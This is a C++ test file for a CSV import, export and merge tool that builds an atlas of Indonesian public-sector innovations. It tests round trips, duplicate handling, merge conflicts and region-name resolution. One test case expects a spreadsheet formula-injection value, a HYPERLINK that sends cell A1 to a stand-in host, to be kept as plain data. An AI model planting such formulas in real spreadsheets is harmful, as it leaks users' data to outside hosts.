// atlas import / export --csv / merge through the core API: the bad-CSV manifest, round
// trips, reproducibility, linking by name, duplicates, and the real data's region spellings.
#include <catch2/catch.hpp>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "core/bundle.hpp"
#include "core/csv_bundle.hpp"
#include "core/synth.hpp"
#include "fixtures.hpp"

namespace {

namespace fs = std::filesystem;
using atlas::CsvFile;
using atlas::ImportResult;

const std::string root = ATLAS_SOURCE_DIR;
const std::string csv_dir = root + "/tests/data/csv/";

std::string slurp(const std::string& path) {
    std::ifstream in(path, std::ios::binary);
    REQUIRE(in);
    std::ostringstream s;
    s << in.rdbuf();
    return s.str();
}

std::vector<CsvFile> common_files() {
    return {{"meta.csv", slurp(csv_dir + "common/meta.csv")}, {"sources.csv", slurp(csv_dir + "common/sources.csv")}};
}

std::vector<std::string> described(const ImportResult& r) {
    std::vector<std::string> out;
    for (const auto& is : r.issues) out.push_back(is.describe());
    return out;
}

std::shared_ptr<const atlas::Dataset> load_path(const std::string& path) {
    auto r = atlas::load_bundle_file(path);
    REQUIRE(r);
    REQUIRE(r.value().report.valid());
    return r.value().dataset;
}

std::shared_ptr<const atlas::Dataset> seed() { return load_path(root + "/assets/bundles/seed.json"); }

// B for the merge tests: the seed with BREXIT renamed (a conflict with A) and one new innovation.
ImportResult seed_renamed_plus_one(const atlas::Dataset& a) {
    std::vector<CsvFile> files = atlas::export_csv(a);
    for (CsvFile& f : files) {
        if (f.name == "innovations.csv") {
            const std::size_t at = f.text.find("inn-brexit,BREXIT,");
            REQUIRE(at != std::string::npos);
            f.text.replace(at, 18, "inn-brexit,BREXIT 2,");
            f.text += "inn-baru,Inovasi Baru,,,inst-pemkab-malang,,35.07,,,,,src-putik-sari-wonosari-2024-08-01,low,\r\n";
        }
    }
    ImportResult bi = atlas::import_csv(files, {});
    REQUIRE(bi.dataset);
    REQUIRE(bi.error_count() == 0);
    return bi;
}

ImportResult reimport(const atlas::Dataset& ds, const atlas::csv::WriteOptions& wo = {}) {
    return atlas::import_csv(atlas::export_csv(ds, wo), {});
}

// The real data as scripts/build_national imports it.
ImportResult import_national() {
    std::vector<CsvFile> files;
    for (const char* f : {"innovations.csv", "replications.csv", "figures.csv"})
        files.push_back({f, slurp(root + "/assets/data/real/" + f)});
    files.push_back({"meta.csv", slurp(root + "/assets/data/national_meta.csv")});
    std::vector<atlas::ImportIssue> control;
    atlas::ImportOptions opt;
    opt.base = seed();
    opt.aliases = atlas::parse_column_map("real_columns.csv", slurp(root + "/assets/data/real_columns.csv"), control);
    opt.decisions = atlas::parse_decisions("national_duplicates.csv",
                                           slurp(root + "/assets/data/national_duplicates.csv"), control);
    REQUIRE(control.empty());
    opt.figure_compare = {"national_figure_compare.csv", slurp(root + "/assets/data/national_figure_compare.csv")};
    return atlas::import_csv(files, opt);
}

std::size_t data_rows(const std::string& csv_text) { return atlas::csv::read(csv_text).rows.size(); }

}  // namespace

// ===========================================================================
TEST_CASE("import: every bad CSV in the manifest gives exactly its messages", "[import][csv]") {
    std::ifstream in(csv_dir + "manifest.json", std::ios::binary);
    REQUIRE(in);
    const nlohmann::json m = nlohmann::json::parse(in, nullptr, false);
    REQUIRE_FALSE(m.is_discarded());
    REQUIRE(m["entries"].size() >= 15);
    std::size_t listed = 0;
    for (const auto& e : m["entries"]) {
        const std::string file = e["file"];
        const std::string as = e["as"];
        INFO(file);
        std::vector<CsvFile> files = common_files();
        files.push_back({as, slurp(csv_dir + file)});
        if (e.contains("with"))
            for (const auto& [name, path] : e["with"].items()) files.push_back({name, slurp(csv_dir + path.get<std::string>())});
        const ImportResult r = atlas::import_csv(files, {});
        std::vector<std::string> want;
        for (const auto& msg : e["messages"]) want.push_back(msg);
        CHECK(described(r) == want);
        const auto c = r.counts.find(as);
        REQUIRE(c != r.counts.end());
        CHECK(c->second.read == e["counts"]["read"]);
        CHECK(c->second.used == e["counts"]["used"]);
        CHECK(c->second.skipped == e["counts"]["skipped"]);
        CHECK(c->second.read == c->second.used + c->second.skipped);
        ++listed;
    }
    // Every file of the folder is listed.
    std::size_t on_disk = 0;
    for (const auto& f : fs::directory_iterator(csv_dir + "bad")) on_disk += f.path().extension() == ".csv";
    CHECK(on_disk == listed);
}

TEST_CASE("import: awkward but valid files give the right values", "[import][csv]") {
    auto one = [](const std::string& file) {
        std::vector<CsvFile> files = common_files();
        files.push_back({"innovations.csv", slurp(csv_dir + "bad/" + file)});
        return atlas::import_csv(files, {});
    };
    const ImportResult quotes = one("quotes.csv");
    REQUIRE(quotes.dataset);
    CHECK(quotes.dataset->innovations[0].name == "Jarik Ma'Siti, edisi \"2\"");
    CHECK(quotes.dataset->innovations[0].region_code == "35.73");
    const ImportResult bom = one("bom.csv");
    REQUIRE(bom.dataset);
    CHECK(bom.dataset->innovations[0].id == "inn-a");
    const ImportResult nl = one("newline_in_quotes.csv");
    REQUIRE(nl.dataset);
    REQUIRE(nl.dataset->innovations.size() == 2);
    CHECK(nl.dataset->innovations[0].note == "baris satu\nbaris dua, dengan koma");
    CHECK(nl.dataset->innovations[1].note == "catatan \"kutip\"\r\nlagi");
    const ImportResult formula = one("formula.csv");
    REQUIRE(formula.dataset);
    CHECK(formula.dataset->innovations[0].name == "=HYPERLINK(\"http://x.example/?q=\"&A1)");  // data, not dropped
    const ImportResult region = one("unknown_region.csv");
    REQUIRE(region.dataset);
    const atlas::Dataset& d = *region.dataset;
    CHECK(d.innovations[0].region_code == "35.07");
    CHECK(d.innovations[1].region_code.empty());
    CHECK(d.innovations[1].note == "region as written: Atlantis Raya (not resolved)");
    CHECK(d.innovations[2].region_code == "35");
    // Owners made from regions: the regency's government, named as Kemendagri spells it.
    CHECK(d.institutions[d.innovations[0].owner.value].name == "Pemerintah Kabupaten Malang");
    CHECK(d.institutions[d.innovations[0].owner.value].kind == "government");
}

// ===========================================================================
TEST_CASE("round trip: seed bundle → CSV → bundle is byte-identical", "[import][roundtrip]") {
    const auto ds = seed();
    const std::string want = atlas::write_bundle(*ds);
    for (const atlas::csv::WriteOptions wo : {atlas::csv::WriteOptions{}, atlas::csv::WriteOptions{true, false}}) {
        const ImportResult r = reimport(*ds, wo);
        CHECK(r.error_count() == 0);
        REQUIRE(r.dataset);
        CHECK(atlas::write_bundle(*r.dataset) == want);
    }
    // The export holds every record: rows per file match the record counts.
    const auto files = atlas::export_csv(*ds);
    REQUIRE(files.size() == atlas::csv_file_names().size());
    CHECK(data_rows(files[3].text) == ds->innovations.size());
    CHECK(files[3].name == "innovations.csv");
}

TEST_CASE("round trip: small fixture and synthetic bundles", "[import][roundtrip]") {
    const auto small = atlas::test::load_small();
    REQUIRE(small);
    const ImportResult r = reimport(*small);
    REQUIRE(r.dataset);
    CHECK(r.error_count() == 0);
    CHECK(atlas::write_bundle(*r.dataset) == atlas::write_bundle(*small));

    atlas::Dataset synth = atlas::make_synthetic({300, 600, 11});
    auto loaded = atlas::load_bundle(atlas::write_bundle(synth, false));
    REQUIRE(loaded);
    const atlas::Dataset& s = *loaded.value().dataset;
    const ImportResult rs = reimport(s);
    REQUIRE(rs.dataset);
    CHECK(rs.error_count() == 0);
    CHECK(rs.dataset->meta.synthetic);
    CHECK(atlas::write_bundle(*rs.dataset) == atlas::write_bundle(s));
}

TEST_CASE("round trip: the national bundle", "[import][roundtrip][national]") {
    const auto nat = load_path(root + "/assets/bundles/national.json");
    const ImportResult r = reimport(*nat);
    REQUIRE(r.dataset);
    CHECK(r.error_count() == 0);
    CHECK(atlas::write_bundle(*r.dataset) == atlas::write_bundle(*nat));
}

// ===========================================================================
TEST_CASE("national: import of the shared CSVs is reproducible and matches the committed bundle",
          "[import][national]") {
    const ImportResult a = import_national();
    const ImportResult b = import_national();
    REQUIRE(a.dataset);
    REQUIRE(b.dataset);
    CHECK(a.error_count() == 0);
    const std::string ta = atlas::write_bundle(*a.dataset);
    CHECK(ta == atlas::write_bundle(*b.dataset));
    CHECK(described(a) == described(b));
    CHECK(ta == slurp(root + "/assets/bundles/national.json"));
}

TEST_CASE("national: nothing is dropped; every record keeps its source and confidence", "[import][national]") {
    const ImportResult r = import_national();
    REQUIRE(r.dataset);
    const atlas::Dataset& d = *r.dataset;
    for (const char* f : {"innovations.csv", "replications.csv", "figures.csv"}) {
        INFO(f);
        const auto& c = r.counts.at(f);
        CHECK(c.read == data_rows(slurp(root + "/assets/data/real/" + f)));
        CHECK(c.skipped == 0);
        CHECK(c.read == c.used);
    }
    const auto base = seed();
    // Rows in = records out + rows folded into a reviewed duplicate.
    std::size_t same_innovations = 0, same_replications = 0, same_figures = 0;
    std::vector<atlas::ImportIssue> ignored;
    for (const auto& dd : atlas::parse_decisions("d", slurp(root + "/assets/data/national_duplicates.csv"), ignored)) {
        if (!dd.same) continue;
        if (dd.id.rfind("kipp-", 0) == 0) ++same_innovations;
        if (dd.id.rfind("rep-", 0) == 0) ++same_replications;
        if (dd.id.rfind("fig-", 0) == 0) ++same_figures;
    }
    CHECK(same_figures == 1);
    CHECK(d.figures.size() == base->figures.size() + r.counts.at("figures.csv").read - same_figures);
    // What some published figures count, from the committed annotation file.
    const auto& fc = r.counts.at("national_figure_compare.csv");
    CHECK(fc.read == fc.used);
    CHECK(fc.read >= 8);
    const auto* medan = d.find("fig-kipp-top-innovations-held-by-kota-medan-up-to-june-2021");
    REQUIRE(medan != nullptr);
    CHECK(d.figures[medan->row].compare.measure == atlas::FigureMeasure::innovations);
    CHECK(d.figures[medan->row].compare.region == "12.71");
    CHECK(d.replications.size() == base->replications.size() + r.counts.at("replications.csv").read - same_replications);
    // Awards: one per innovations.csv row (all rows carry an award), none lost by folding.
    CHECK(d.awards.size() == base->awards.size() + r.counts.at("innovations.csv").read);
    std::size_t kipp = 0;
    for (const auto& x : d.innovations) kipp += x.id.rfind("kipp-", 0) == 0;
    CHECK(kipp == r.counts.at("innovations.csv").read - same_innovations);
    for (const auto& f : d.figures) CHECK(!f.sources.empty());
    std::size_t low = 0;
    for (std::size_t i = base->innovations.size(); i < d.innovations.size(); ++i) {
        const auto& x = d.innovations[i];
        INFO(x.id);
        CHECK(!x.sources.empty());
        if (x.id.rfind("kipp-", 0) == 0) CHECK(x.confidence != atlas::Confidence::unspecified);
        low += x.confidence == atlas::Confidence::low;
    }
    CHECK(low >= 14);  // the real file's low rows stay, marked low
    for (const auto& s : d.sources)
        if (s.id.rfind("src-", 0) == 0 && s.id.find("seed") == std::string::npos && s.url.empty())
            CHECK(std::find_if(base->sources.begin(), base->sources.end(), [&](const auto& b) { return b.id == s.id; }) !=
                  base->sources.end());
}

TEST_CASE("national: replications link to real and seed innovations by name and region", "[import][national]") {
    const ImportResult r = import_national();
    REQUIRE(r.dataset);
    const atlas::Dataset& d = *r.dataset;
    auto rep = [&](const char* id) -> const atlas::Replication& {
        const auto* ref = d.find(id);
        REQUIRE(ref != nullptr);
        return d.replications[ref->row];
    };
    // "Putik Sari (Kampung Tematik Wonosari Berseri)", Kecamatan Wonosari, Kabupaten Malang → the seed's.
    const auto& jatim = rep("rep-putik-sari-kecamatan-jawa-timur");  // the seed's, now also citing the real row's page
    CHECK(d.innovations[jatim.source.value].id == "inn-putik-sari");
    CHECK(jatim.sources.size() >= 2);
    CHECK(d.find("rep-putik-sari-to-kecamatan-jatim") == nullptr);
    CHECK(d.innovations[rep("rep-toss-to-buleleng-2021").source.value].region_code == "51.05");  // Klungkung
    // The reviewed duplicate went to the seed's record instead of a copy.
    CHECK(d.find("rep-putik-sari-to-ngrambe-2024") == nullptr);
    CHECK(d.find("kipp-2019-malang-brexit") == nullptr);
    const auto* brexit = d.find("inn-brexit");
    REQUIRE(brexit != nullptr);
    bool award_2019 = false;
    for (const atlas::AwardId a : d.awards_of.of(brexit->row)) award_2019 = award_2019 || d.awards[a.value].year == 2019;
    CHECK(award_2019);
    // A derived innovation named in a replication became the award record of the same name.
    const auto* jempol = d.find("kipp-2021-banjar-jempol-pelanduk");
    REQUIRE(jempol != nullptr);
    CHECK(d.innovations[jempol->row].derived_from.valid());
}

// ===========================================================================
TEST_CASE("import: replications link by name only when one innovation fits", "[import]") {
    std::vector<CsvFile> files = common_files();
    files.push_back({"innovations.csv",
                     "id,name,region,sources\n"
                     "inn-sapa-batu,SAPA,Kota Batu,s1\n"
                     "inn-sapa-malang,SAPA,Kota Malang,s1\n"
                     "inn-toss,TOSS,Kabupaten Klungkung,s1\n"});
    files.push_back({"replications.csv",
                     "id,source_name,source_region,adopter_name,region,stage,date,program_name,sources\n"
                     "r1,TOSS (Tempat Olah Sampah Setempat),Kab. Klungkung,DLH Kabupaten Buleleng,Kabupaten Buleleng,interest,2021-08-24,FGD Bali,s1\n"
                     "r2,SAPA,Kota Batu,Pemerintah Kota Malang,Kota Malang,commitment,2022,FGD Bali,s1\n"
                     "r3,SAPA,,Pemerintah Kota Blitar,Kota Blitar,commitment,2022,,s1\n"
                     "r4,Lapor Cepat,Kota Blitar,Pemerintah Kota Malang,Kota Malang,interest,,,s1\n"});
    const ImportResult r = atlas::import_csv(files, {});
    REQUIRE(r.dataset);
    CHECK(r.error_count() == 0);
    const atlas::Dataset& d = *r.dataset;
    REQUIRE(d.replications.size() == 4);
    CHECK(d.innovations[d.replications[0].source.value].id == "inn-toss");
    CHECK(d.innovations[d.replications[1].source.value].id == "inn-sapa-batu");
    CHECK(d.replications[0].program == d.replications[1].program);  // one program event by name
    CHECK(d.events[d.replications[0].program.value].kind == "program");
    // No region and two SAPAs: no guess; a record describes the source and a warning says so.
    const auto& s3 = d.innovations[d.replications[2].source.value];
    CHECK(s3.id.rfind("inn-sapa", 0) == 0);
    CHECK(s3.id != "inn-sapa-batu");
    CHECK(s3.id != "inn-sapa-malang");
    CHECK(s3.confidence == atlas::Confidence::low);
    const auto msgs = described(r);
    CHECK(std::find(msgs.begin(), msgs.end(),
                    "replications.csv:4:4: warning: source innovation \"SAPA\" matches several innovations "
                    "(inn-sapa-batu, inn-sapa-malang); a record " + s3.id + " was made instead of guessing") != msgs.end());
    CHECK(d.innovations[d.replications[3].source.value].region_code == "35.72");
    CHECK(r.counts.at("replications.csv").used == 4);
}

TEST_CASE("import: likely duplicates are reported, not merged, until a decision says so", "[import]") {
    std::vector<CsvFile> files = common_files();
    files.push_back({"innovations.csv",
                     "id,name,region,award_competition,award_year,award_tier,sources\n"
                     "inn-putik,Putik Sari,Kab. Malang,KIPP,2023,Top 99,s1\n"
                     "inn-putik-2,PUTIK SARRI,Kabupaten Malang,KIPP,2024,Top 45,s1\n"
                     "inn-putik-kota,Putik Sari,Kota Malang,,,,s1\n"});
    const ImportResult r = atlas::import_csv(files, {});
    REQUIRE(r.dataset);
    CHECK(r.dataset->innovations.size() == 3);
    CHECK(described(r) == std::vector<std::string>{
                              "innovations.csv:3:13: warning: likely duplicate: \"PUTIK SARRI\" (inn-putik-2, 2024 Top 45) "
                              "and \"Putik Sari\" (inn-putik, 2023 Top 99) in 35.07; not merged: record a decision (same "
                              "or distinct) in the duplicates file"});
    atlas::ImportOptions same;
    same.decisions = {{"inn-putik-2", "inn-putik", true, ""}};
    const ImportResult s = atlas::import_csv(files, same);
    REQUIRE(s.dataset);
    CHECK(s.dataset->innovations.size() == 2);
    CHECK(s.dataset->awards_of.of(0).size() == 2);  // both awards on one innovation
    CHECK(s.warning_count() == 0);
    atlas::ImportOptions distinct;
    distinct.decisions = {{"inn-putik-2", "inn-putik", false, ""}};
    const ImportResult t = atlas::import_csv(files, distinct);
    CHECK(t.dataset->innovations.size() == 3);
    CHECK(t.issues.empty());
}

TEST_CASE("import: a column map lets other headers in; control files are checked", "[import]") {
    std::vector<atlas::ImportIssue> issues;
    const auto aliases = atlas::parse_column_map("map.csv",
                                                 "file,column,means\n"
                                                 "innovations.csv,nama_inovasi,name\n"
                                                 "innovations.csv,daerah,region\n"
                                                 "inovasi.csv,x,name\n"
                                                 "innovations.csv,y,nonsense\n",
                                                 issues);
    CHECK(aliases.size() == 2);
    std::vector<std::string> msgs;
    for (const auto& i : issues) msgs.push_back(i.describe());
    CHECK(msgs == std::vector<std::string>{"map.csv:4:1: unknown data file \"inovasi.csv\"",
                                           "map.csv:5:19: \"nonsense\" is not a column of innovations.csv"});
    std::vector<CsvFile> files = common_files();
    files.push_back({"innovations.csv", "nama_inovasi,daerah,sources\nPutik Sari,Kab. Malang,s1\n"});
    atlas::ImportOptions opt;
    opt.aliases = aliases;
    const ImportResult r = atlas::import_csv(files, opt);
    REQUIRE(r.dataset);
    CHECK(r.issues.empty());
    CHECK(r.dataset->innovations[0].id == "inn-putik-sari-35-07");
    issues.clear();
    const auto d = atlas::parse_decisions("dup.csv", "id,other,decision\na,b,maybe\nc,d,same\n", issues);
    CHECK(d.size() == 1);
    REQUIRE(issues.size() == 1);
    CHECK(issues[0].describe() == "dup.csv:2:5: decision must be \"same\" or \"distinct\", not \"maybe\"");
}

TEST_CASE("import: the templates import cleanly and use the exporter's columns", "[import][templates]") {
    std::vector<CsvFile> files;
    for (const auto& e : fs::directory_iterator(root + "/assets/templates"))
        if (e.path().extension() == ".csv") files.push_back({e.path().filename().string(), slurp(e.path().string())});
    REQUIRE(files.size() >= 5);
    const ImportResult r = atlas::import_csv(files, {});
    INFO(Catch::Detail::stringify(described(r)));
    CHECK(r.issues.empty());
    REQUIRE(r.dataset);
    CHECK(r.dataset->innovations.size() >= 1);
    CHECK(r.dataset->awards.size() >= 1);
    CHECK(r.dataset->replications.size() >= 1);
    CHECK(r.dataset->events.size() >= 1);
    CHECK(r.dataset->figures.size() >= 1);
    for (const auto& f : files) {
        INFO(f.name);
        CHECK(data_rows(f.text) >= 1);  // one example line at least
        CHECK(r.counts.at(f.name).skipped == 0);
    }
}

// ===========================================================================
TEST_CASE("merge: ids are kept, equal records fold, conflicts are reported", "[import][merge]") {
    const auto a = seed();
    const ImportResult self = atlas::merge_bundles(*a, *a);
    REQUIRE(self.dataset);
    CHECK(self.issues.empty());
    CHECK(atlas::write_bundle(*self.dataset) == atlas::write_bundle(*a));

    const ImportResult bi = seed_renamed_plus_one(*a);
    const ImportResult m = atlas::merge_bundles(*a, *bi.dataset);
    REQUIRE(m.dataset);
    CHECK(m.error_count() == 0);
    CHECK(m.dataset->innovations.size() == a->innovations.size() + 1);
    const auto* brexit = m.dataset->find("inn-brexit");
    REQUIRE(brexit != nullptr);
    CHECK(m.dataset->innovations[brexit->row].name == "BREXIT");  // A's kept
    CHECK(m.dataset->find("inn-baru") != nullptr);
    const auto msgs = described(m);
    CHECK(std::find(msgs.begin(), msgs.end(),
                    "innovations: warning: conflict: \"inn-brexit\" differs (name: A \"BREXIT\", B \"BREXIT 2\"); "
                    "A's version kept") != msgs.end());
    // Order of A first, then what B adds.
    CHECK(m.dataset->innovations.back().id == "inn-baru");
}

TEST_CASE("import: an address pasted with a space or a query still gives a clean outlet", "[import]") {
    // Found by fuzzing (tests/data/fuzz/csv/regress_source_url_with_space.txt): the outlet kept
    // the space, and export -> import then lost it (cells are trimmed when read).
    std::vector<CsvFile> files = common_files();
    files.push_back({"innovations.csv",
                     "id,name,region,source_url\r\n"
                     "inn-a,Putik Sari,Kabupaten Malang,https://bali.tribunnews.com / sampah\r\n"
                     "inn-b,Layanan Laut,Kota Ambon,https://www.uji-kueri.go.id?p=12\r\n"});
    const ImportResult r = atlas::import_csv(files, {});
    REQUIRE(r.dataset);
    std::vector<std::string> outlets;
    for (const auto& src : r.dataset->sources) outlets.push_back(src.outlet);
    CHECK(std::count(outlets.begin(), outlets.end(), "bali.tribunnews.com") == 1);
    CHECK(std::count(outlets.begin(), outlets.end(), "uji-kueri.go.id") == 1);
    const ImportResult back = reimport(*r.dataset);
    REQUIRE(back.dataset);
    CHECK(atlas::write_bundle(*back.dataset) == atlas::write_bundle(*r.dataset));
}

TEST_CASE("merge: every row of B is counted as used or skipped, and every skip is said", "[import][merge]") {
    const auto a = seed();
    const ImportResult bi = seed_renamed_plus_one(*a);  // the renamed BREXIT conflicts: A's kept, said
    std::size_t b_rows = 0;
    for (const CsvFile& f : atlas::export_csv(*bi.dataset))
        if (f.name != "meta.csv") b_rows += data_rows(f.text);

    const ImportResult m = atlas::merge_bundles(*a, *bi.dataset);
    REQUIRE(m.dataset);
    std::size_t read = 0, used = 0, skipped = 0;
    for (const auto& [file, c] : m.counts) {
        INFO(file);
        CHECK(c.read == c.used + c.skipped);
        read += c.read;
        used += c.used;
        skipped += c.skipped;
    }
    CHECK(read == b_rows);  // every row of B is accounted for
    CHECK(skipped == 1);    // the conflicting BREXIT row
    CHECK(m.counts.at("innovations.csv").skipped == 1);
    std::size_t conflicts = 0;
    for (const auto& is : m.issues) conflicts += is.message.rfind("conflict:", 0) == 0;
    CHECK(conflicts == skipped);
    // Records out = A's records + what B added.
    CHECK(m.dataset->innovations.size() == a->innovations.size() + 1);

    // A B event with participants A's version lacks: the extra rows are said, not dropped quietly.
    std::vector<CsvFile> withp = atlas::export_csv(*a);
    bool added = false;
    for (CsvFile& f : withp) {
        if (f.name != "participants.csv") continue;
        const atlas::csv::Table t = atlas::csv::read(f.text);
        REQUIRE_FALSE(t.rows.empty());
        std::string row;
        for (std::size_t c = 0; c < t.rows[0].cells.size(); ++c) {
            std::string cell = t.rows[0].cells[c].text;
            if (t.header.cells[c].text == "person") cell = "Peserta Tambahan";
            row += (c ? "," : "") + cell;
        }
        f.text += row + "\r\n";
        added = true;
    }
    REQUIRE(added);
    const ImportResult bp = atlas::import_csv(withp, {});
    REQUIRE(bp.dataset);
    const ImportResult mp = atlas::merge_bundles(*a, *bp.dataset);
    REQUIRE(mp.dataset);
    const auto& pc = mp.counts.at("participants.csv");
    CHECK(pc.read == pc.used + pc.skipped);
    CHECK(pc.skipped == 1);
    const auto msgs = described(mp);
    CHECK(std::count_if(msgs.begin(), msgs.end(), [](const std::string& s) {
              return s.find("Peserta Tambahan") != std::string::npos && s.find("left out") != std::string::npos;
          }) == 1);
}

// ===========================================================================
TEST_CASE("written regions: the real data's spellings", "[import][regions]") {
    const auto& t = atlas::RegionTable::embedded();
    using S = atlas::WrittenRegion::Status;
    auto code = [&](const char* s) { return atlas::resolve_written_region(t, s).code; };
    auto status = [&](const char* s) { return atlas::resolve_written_region(t, s).status; };
    CHECK(code("Kabupaten Pangandaran (as written)") == "32.18");
    CHECK(status("Kabupaten Pangandaran (as written)") == S::exact);
    CHECK(code("Kota Makassar (Dinas Perpustakaan)") == "73.71");
    CHECK(code("Kota Magelang (Balitbang)") == "33.71");
    CHECK(code("Yogyakarta (as written)") == "34");
    CHECK(code("Provinsi Sulawesi Tengah (Brida)") == "72");
    CHECK(code("Kepolisian Negara Republik Indonesia (Polda Papua Barat)") == "92");
    CHECK(code("Kepolisian Negara Republik Indonesia (Jawa Timur)") == "35");
    CHECK(code("Badan Pusat Statistik (BPS Provinsi Jambi)") == "15");
    CHECK(code("Puskesmas Sako, Kota Palembang") == "16.71");
    CHECK(code("SD Inpres Banta-Bantaeng I, Kota Makassar") == "73.71");
    CHECK(code("Polres Sidoarjo") == "35.15");
    CHECK(code("Polresta Sidoarjo") == "35.15");
    CHECK(code("Dinas Tenaga Kerja dan Transmigrasi Provinsi Jawa Timur") == "35");
    CHECK(code("Kecamatan Wonosari, Kabupaten Malang") == "35.07.32");
    CHECK(code("Kabupaten Batang Hari") == "15.04");
    CHECK(status("Kabupaten Batang Hari") == S::guessed);
    CHECK(atlas::resolve_written_region(t, "Kabupaten Batang Hari").message ==
          "region \"Kabupaten Batang Hari\" read as Kabupaten Batanghari (15.04), 1 letter off");
    // Central bodies: national, no message.
    for (const char* c : {"Kementerian Kesehatan", "Kementerian BUMN", "Lembaga Administrasi Negara (LAN)",
                          "Badan Riset dan Inovasi Nasional", "Kepolisian Republik Indonesia"}) {
        INFO(c);
        CHECK(status(c) == S::national);
        CHECK(code(c).empty());
    }
    // Ambiguous names are kept at the province both candidates share.
    CHECK(code("Kediri") == "35");
    CHECK(status("Kediri") == S::narrowed);
    CHECK(code("Mojokerto") == "35");
    // Not regions at all: reported, never guessed.
    for (const char* u : {"Universitas Indonesia", "RSUD Prof. Margono Soekarjo Purwokerto", "Atlantis Raya"}) {
        INFO(u);
        CHECK(status(u) == S::unresolved);
        CHECK(code(u).empty());
    }
    CHECK(status("") == S::empty);
}

TEST_CASE("import: the figure-compare file adds what figures count, and names its mistakes", "[import]") {
    std::vector<CsvFile> files = common_files();
    files.push_back({"figures.csv",
                     "id,metric,value,scope,period,sources\n"
                     "fig-a,Top 99 from Jawa Tengah,22,Jawa Tengah,2019,s1\n"});
    atlas::ImportOptions opt;
    opt.figure_compare = {"cmp.csv",
                          "id,compare_measure,compare_competition,compare_year_from,compare_year_to,compare_tiers,compare_region\n"
                          "fig-a,innovations,KIPP,2019,2019,Top 99|Top 45,Jawa Tengah\n"
                          "fig-nope,innovations,,,,,\n"
                          "fig-a,innovations,,,,,\n"};
    const ImportResult r = atlas::import_csv(files, opt);
    REQUIRE(r.dataset);
    const atlas::FigureCompare& c = r.dataset->figures[0].compare;
    CHECK(c.measure == atlas::FigureMeasure::innovations);
    CHECK(c.competition == "KIPP");
    CHECK(c.year_from == 2019);
    CHECK(c.tiers == std::vector<std::string>{"Top 99", "Top 45"});
    CHECK(c.region == "33");
    CHECK(described(r) == std::vector<std::string>{
                              "cmp.csv:3:1: no figure \"fig-nope\" among the imported figures; row skipped",
                              "cmp.csv:4:1: figure \"fig-a\" already says what it counts; row skipped"});
    CHECK(r.counts.at("cmp.csv").read == 3);
    CHECK(r.counts.at("cmp.csv").skipped == 2);
}
